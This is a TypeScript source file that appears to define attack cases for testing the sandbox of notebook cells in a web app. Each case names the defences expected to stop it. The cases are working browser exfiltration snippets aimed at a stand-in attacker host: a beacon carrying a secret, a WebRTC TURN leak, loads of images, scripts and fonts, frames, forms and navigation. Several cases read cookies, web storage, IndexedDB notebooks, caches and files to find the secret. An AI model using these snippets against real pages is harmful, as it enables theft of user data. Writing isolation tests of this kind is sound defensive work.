import { program, stolen, type Attack, type Ears } from "../attack";
import type { Cut } from "../cuts";

/** Code that needs a document: a cell's worker has none. Heard where cells run in the window of their frame. */
const draws = (
  name: string,
  way: string,
  code: (ears: Ears) => string,
  more: Partial<Attack> & { readonly also?: readonly Cut[] } = {},
): Attack => {
  const { also = [], ...rest } = more;
  return {
    name,
    door: "ts",
    way,
    without: ["jail policy", "bare scope", "worker only", ...also],
    plant: (ears) => ({ cells: program(name, code(ears)) }),
    ...rest,
  };
};

/** An element with these properties, in the document. */
const add = (tag: string, properties: string) =>
  `document.documentElement.append(Object.assign(document.createElement("${tag}"), { ${properties} }));`;
const wait = (milliseconds: number) => `await new Promise((go) => setTimeout(go, ${milliseconds}));`;
/** Takes hold of what stands in a storage, and shows it. */
const takes = (name: string, way: string, read: string): Attack => ({
  ...draws(name, way, () => "", { also: ["sandbox"] }),
  plant: ({ secret }) => ({
    cells: program(
      name,
      `const found = String(await (${read})());\nif (found.includes("${secret}")) return "${stolen(name, "")}" + "${secret}";`,
    ),
  }),
});

export default [
  draws("ts-image", "image", ({ http }) => `new Image().src = "${http}/x.png";`),
  draws("ts-image-own", "same origin, with a query", ({ own }) => `new Image().src = "${own}";`),
  draws("ts-style", "style", ({ http }) => add("style", `textContent: '@import "${http}/x.css"'`)),
  draws("ts-style-file", "style", ({ http }) => add("link", `rel: "stylesheet", href: "${http}/x.css"`)),
  draws(
    "ts-style-font",
    "font",
    ({ http }) =>
      `const face = new FontFace("f", 'url("${http}/x.woff2")'); document.fonts.add(face); face.load().catch(() => null);`,
  ),
  draws("ts-script", "script", ({ http }) => add("script", `src: "${http}/x.js"`)),
  draws("ts-prefetch", "prefetch", ({ http }) => add("link", `rel: "prefetch", href: "${http}/x"`)),
  draws("ts-preload", "prefetch", ({ http }) =>
    add("link", `rel: "preload", as: "image", href: "${http}/x.png"`),
  ),
  draws("ts-media", "media", ({ http }) => `new Audio("${http}/x.mp3").load();`),
  draws("ts-beacon", "beacon", ({ http, secret }) => `navigator.sendBeacon("${http}/x", "${secret}");`),
  draws(
    "ts-rtc",
    "WebRTC",
    ({ port }) => `const link = new RTCPeerConnection({ iceServers: [{ urls: "stun:${port}" }] });
link.createDataChannel("x"); await link.setLocalDescription(); ${wait(500)} link.close();`,
    { port: true },
  ),
  draws(
    "ts-rtc-relay",
    "WebRTC",
    ({ port, secret }) => `const link = new RTCPeerConnection({
  iceServers: [{ urls: "turn:${port}?transport=tcp", username: "${secret}", credential: "x" }] });
link.createDataChannel("x"); await link.setLocalDescription(); ${wait(500)} link.close();`,
    { port: true },
  ),
  draws("ts-frame", "frame", ({ http }) => add("iframe", `src: "${http}/x"`), { also: ["page policy"] }),
  draws(
    "ts-form",
    "form",
    ({
      http,
    }) => `const form = Object.assign(document.createElement("form"), { action: "${http}/x", method: "post", target: "inner" });
const inner = Object.assign(document.createElement("iframe"), { name: "inner" });
document.documentElement.append(inner, form); form.submit(); ${wait(300)}`,
    { also: ["sandbox", "page policy"] },
  ),
  draws(
    "ts-ping",
    "ping",
    ({ http }) => `const link = document.createElement("a");
link.href = "#"; link.ping = "${http}/x"; document.documentElement.append(link); link.click();`,
  ),
  draws("ts-window", "window", ({ http }) => `window.open("${http}/x"); ${wait(300)}`, { also: ["sandbox"] }),
  draws(
    "ts-download",
    "download",
    ({ secret }) => `const link = document.createElement("a");
link.href = URL.createObjectURL(new Blob(["${secret}"])); link.download = "ts-download.csv";
document.documentElement.append(link); link.click(); ${wait(300)}`,
    { also: ["sandbox"] },
  ),
  draws("ts-frame-leaves", "navigation", ({ http }) => `location.href = "${http}/x"; ${wait(500)}`, {
    also: ["page policy"],
  }),
  draws("ts-page-leaves", "navigation", ({ http }) => `top.location.href = "${http}/x"; ${wait(500)}`, {
    also: ["sandbox"],
    alone: true,
  }),
  draws(
    "ts-page-script",
    "script",
    ({ http }) => `const page = parent.document;
page.body.append(Object.assign(page.createElement("img"), { src: "${http}/x.png" })); ${wait(300)}`,
    { also: ["sandbox", "page policy"] },
  ),
  takes("ts-local-storage", "storage", "() => localStorage.getItem('secret')"),
  takes("ts-session-storage", "storage", "() => sessionStorage.getItem('secret')"),
  takes("ts-cookie", "storage", "() => document.cookie"),
  takes(
    "ts-indexed-db",
    "storage",
    `() => new Promise((go, no) => {
  const opening = indexedDB.open("secret", 1);
  opening.onerror = no;
  opening.onsuccess = () => {
    const ask = opening.result.transaction("secret").objectStore("secret").get("secret");
    ask.onsuccess = () => go(ask.result);
  };
})`,
  ),
  takes(
    "ts-notebooks",
    "storage",
    `async () => JSON.stringify(await new Promise((go, no) => {
  const opening = indexedDB.open("tenure");
  opening.onerror = no;
  opening.onsuccess = () => {
    const ask = opening.result.transaction("notebooks").objectStore("notebooks").getAll();
    ask.onsuccess = () => go(ask.result);
  };
}))`,
  ),
  takes("ts-caches", "storage", "async () => (await (await caches.open('secret')).match('secret')).text()"),
  takes(
    "ts-files",
    "storage",
    "async () => (await (await (await navigator.storage.getDirectory()).getFileHandle('secret.csv')).getFile()).text()",
  ),
] satisfies Attack[];
